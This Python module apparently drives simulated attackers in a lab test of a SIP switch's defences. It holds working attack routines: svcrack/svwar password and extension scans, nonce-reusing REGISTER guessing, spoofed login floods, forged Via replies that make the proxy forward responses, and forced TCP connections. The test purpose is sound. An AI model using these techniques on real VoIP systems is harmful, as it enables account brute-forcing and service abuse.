"""Who plays against the switch in the story; each works until the story is over.

Guesses carry a nonce that the switch has given, so each of them is one that it judges.
"""

from __future__ import annotations

import itertools
import secrets
import time
from typing import TYPE_CHECKING

from lab import sip
from packets.story.account import Account
from packets.story.handset import Handset, Ledger
from packets.story.switchboard import target
from packets.story.ways import Datagrams, Stream

if TYPE_CHECKING:
    import socket
    import subprocess
    from collections.abc import Sequence
    from pathlib import Path

    from lab import Lab
    from packets.evidence.wire import Place, Wire

VICTIM = "150"


class Clock:
    """When the story ends."""

    def __init__(self, seconds: float) -> None:
        self.started = time.monotonic()
        self._end = self.started + seconds

    @property
    def left(self) -> float:
        return self._end - time.monotonic()

    def end(self) -> None:
        self._end = 0.0

    def rounds(self, pause: float) -> itertools.takewhile[int]:
        """Count until the end, at most one number in each pause."""

        def goes_on(number: int) -> bool:
            time.sleep(max(0.0, self.started + pause * number - time.monotonic()))
            return self.left > 0

        first = int((time.monotonic() - self.started) / pause) + 1
        return itertools.takewhile(goes_on, itertools.count(first))


class Attacker:
    """One address of the attacker's host."""

    def __init__(self, lab: Lab, wire: Wire, address: str, user: str = VICTIM) -> None:
        self._lab, self._wire = lab, wire
        self.address = address
        self.switch = target(lab)
        self.account = Account(user, address, self.switch)

    def datagrams(self, port: int) -> Datagrams:
        opened = self._wire.udp(self._lab.attacker, (self.address, port))
        return Datagrams(opened, self.switch)

    def listening(self, port: int) -> socket.socket:
        return self._wire.listening(self._lab.attacker, (self.address, port))

    def keep(self, opened: socket.socket) -> socket.socket:
        return self._wire.keep(opened)

    def challenge(self, way: Datagrams) -> sip.Message | None:
        """Ask for a challenge; what comes back is used for all guesses."""
        for _ in range(4):
            way.send(self.account.request("REGISTER"))
            answer = _answer(way, 0.5)
            if answer is not None:
                return answer
        return None

    def guess(self, challenge: sip.Message) -> bytes:
        request = self.account.request("REGISTER")
        secret = f"wrong-{secrets.token_hex(4)}"
        credentials = self.account.credentials(challenge, request, secret)
        return self.account.request("REGISTER", headers=[credentials])


def svcrack(lab: Lab, folder: Path, port: int) -> subprocess.Popen[str]:
    wordlist = folder / "words"
    wordlist.write_text("\n".join(f"wrong-{number}" for number in range(20_000)))
    options = ["-P", str(port), "-u", VICTIM, "-d", str(wordlist)]
    return _tool(lab, folder, ["svcrack", *options])


def svwar(lab: Lab, folder: Path, port: int) -> subprocess.Popen[str]:
    return _tool(lab, folder, ["svwar", "-P", str(port), "-e", "1000-9999"])


def _tool(lab: Lab, folder: Path, argv: Sequence[str]) -> subprocess.Popen[str]:
    return lab.attacker.popen(
        [*argv, target(lab)[0]],
        env={"HOME": str(folder)},
        cwd=str(folder),
        output=folder / f"{argv[0]}.log",
    )


def insider(attacker: Attacker, clock: Clock) -> None:
    """Keep one port registered with an account of his own, and guess from twenty others."""
    own = Account("139", attacker.address, attacker.switch)
    honest = Handset(own, attacker.datagrams(6000), Ledger())
    honest.register(8)
    ports = [attacker.datagrams(port) for port in range(6001, 6021)]
    challenge = attacker.challenge(ports[0])
    if challenge is None:
        return
    for number in clock.rounds(0.02):
        ports[number % len(ports)].send(attacker.guess(challenge))
        if number % 200 == 199:
            honest.register(8)


def spoofer(lab: Lab, new: str, known: str, ports: Sequence[int], clock: Clock) -> None:
    """Write 300 logins a second in a new customer's name, and later in a known one's too."""
    forged = forged_login(lab, new)
    for number in itertools.count():
        if clock.left <= 0:
            return
        names = [new, known] if number >= 4 else [new]
        rate = 300 * len(names)
        some = [ports[(number * rate + n) % len(ports)] for n in range(rate)]
        lab.attacker.spoof_udp(names * 300, target(lab)[0], some, 5060, forged, pps=rate)


def forged_login(lab: Lab, address: str) -> bytes:
    forger = Account(VICTIM, address, target(lab))
    request = forger.request("REGISTER")
    made_up = sip.Message("SIP/2.0 401 x", (("www-authenticate", 'nonce="0"'),), b"")
    return forger.request("REGISTER", headers=[forger.credentials(made_up, request, "wrong")])


# Row 11: the switch is made to connect, and the guesses come on its own connection.


def stray_reply(switch: Place, via: str, status: int, method: str = "REGISTER") -> bytes:
    """Return an answer that a proxy forwards to whom its second Via names."""
    host = sip.host_text(switch[0])
    lines = [
        f"SIP/2.0 {status} {sip.REASONS[status]}",
        f"Via: SIP/2.0/UDP {host}:5060;branch=z9hG4bK{secrets.token_hex(8)}",
        f"Via: {via};branch=z9hG4bK{secrets.token_hex(8)}",
        f"From: <sip:{VICTIM}@{host}>;tag=1",
        f"To: <sip:{VICTIM}@{host}>;tag=2",
        f"Call-ID: {secrets.token_hex(8)}",
        f"CSeq: 7 {method}",
        "Content-Length: 0",
    ]
    return "\r\n".join([*lines, "", ""]).encode()


def within_dialog(attacker: Attacker, uri: str, method: str = "BYE") -> bytes:
    """Return a request that a proxy takes for one within a dialog, and relays to its URI."""
    request = attacker.account.request(method, "x").decode()
    head, _, rest = request.partition(" SIP/2.0\r\n")
    assert head
    host = sip.host_text(attacker.switch[0])
    rest = rest.replace(f"To: <sip:x@{host}>", f"To: <sip:x@{host}>;tag=7")
    return f"{method} {uri} SIP/2.0\r\nRoute: <sip:{host};lr>\r\n{rest}".encode()


def guesses_on_connections_of_the_switch(attacker: Attacker, clock: Clock) -> int:
    """Let the switch connect again and again; return how many connections there were."""
    way = attacker.datagrams(5080)
    challenge = attacker.challenge(way)
    doors = [attacker.listening(port) for port in range(5070, 5078)]
    attacker.account.transport = "TCP"
    count = 0
    for number in clock.rounds(0.3):
        door = doors[number % len(doors)]
        port = door.getsockname()[1]
        uri = f"sip:x@{attacker.address}:{port};transport=tcp"
        way.send(within_dialog(attacker, uri))
        way.send(stray_reply(attacker.switch, f"SIP/2.0/TCP {attacker.address}:{port}", 200))
        door.settimeout(0.3)
        try:
            opened, _ = door.accept()
        except TimeoutError:
            continue
        count += 1
        stream = Stream(attacker.keep(opened))
        for _ in range(200):
            if challenge is None or clock.left <= 0 or stream.ended():
                break
            stream.send(attacker.guess(challenge))
            if _answer(stream, 0.3) is None:
                break
        stream.socket.close()
    return count


def _answer(way: Datagrams | Stream, timeout: float) -> sip.Message | None:
    """Return the next answer; requests of the switch are passed over."""
    deadline = time.monotonic() + timeout
    while (left := deadline - time.monotonic()) > 0:
        data = way.receive(left)
        message = sip.parse(data) if data else None
        if message is not None and message.status is not None:
            return message
    return None


# Rows 12 and 13: answers and echoes that nobody asked for; `seen` looks whether they have taught.


def forge_refusals(attacker: Attacker, customers: Sequence[Place]) -> None:
    """Let the switch forward 401s to customers, a dozen to each port."""
    way = attacker.datagrams(0)
    for address, port in customers:
        via = f"SIP/2.0/UDP {sip.host_text(address)}:{port}"
        for _ in range(12):
            way.send(stray_reply(attacker.switch, via, 401))


def forge_success(attacker: Attacker) -> None:
    """Register without a password and let the switch forward a 200 to oneself."""
    way = attacker.datagrams(0)
    port = way.socket.getsockname()[1]
    attacker.challenge(way)
    for method in ("REGISTER", "INVITE"):
        via = f"SIP/2.0/UDP {attacker.address}:{port}"
        way.send(stray_reply(attacker.switch, via, 200, method))


ECHOES = ("abc 1 REGISTER", "abc\r\n 1 REGISTER", "abc REGISTER", "abc 1\tREGISTER")


def echo(attacker: Attacker) -> None:
    """Register without a password and call who answers everybody, with an echo of a login."""
    way = attacker.datagrams(0)
    for call_id in ECHOES:
        attacker.challenge(way)
        for method in ("INVITE", "MESSAGE", "SUBSCRIBE", "OPTIONS"):
            way.send(attacker.account.request(method, "ivr", call_id=call_id))
            _answer(way, 0.05)


def tricks(
    forger: Attacker, customers: Sequence[Place], cheats: Sequence[Attacker], clock: Clock
) -> None:
    for number in clock.rounds(2.0):
        forge_refusals(forger, customers)
        forge_success(cheats[0])
        echo(cheats[1 + number % (len(cheats) - 1)])
